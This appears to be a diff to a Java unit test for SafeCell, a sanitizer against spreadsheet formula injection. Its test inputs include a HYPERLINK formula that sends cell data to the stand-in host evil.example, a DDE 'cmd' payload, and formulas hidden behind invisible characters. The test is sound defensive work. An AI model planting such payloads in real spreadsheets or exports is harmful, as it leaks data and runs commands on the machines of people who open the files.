@@ -12,7 +12,8 @@ class SafeCellTest {
     @ParameterizedTest
     @ValueSource(strings = {
         "=1+1", " =1+1", "papiers ;=HYPERLINK(\"http://evil.example/?\"&A1;\"ici\") ;@SUM(1)", "a\n=cmd|' /C calc'!A0",
-        "a\r\n+1", "a;\"=1\"", "a; \"\"=1", "a;\t-1", "a;＝1", "a\u2028=1", "a;\u00A0=1"
+        "a\r\n+1", "a;\"=1\"", "a; \"\"=1", "a;\t-1", "a;＝1", "a\u2028=1", "a;\u00A0=1", "\"=1\"", "\t=1", "\t1",
+        "=1;=2;\n=3\n\n=4"
     })
     void beginsNoFormulaInAnyReading(String words) {
         for (String cell : SafeCell.of(words).split("[;\\n\\r\\u2028]")) {
@@ -20,6 +21,7 @@ class SafeCellTest {
             assertThat(bare).as(SafeCell.of(words)).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-");
             assertThat(bare).doesNotStartWith("@").doesNotStartWith("＝");
         }
+        assertThat(SafeCell.of(words).replace("'", "")).as("nothing is lost").isEqualTo(words.replace("'", ""));
     }
 
     @ParameterizedTest
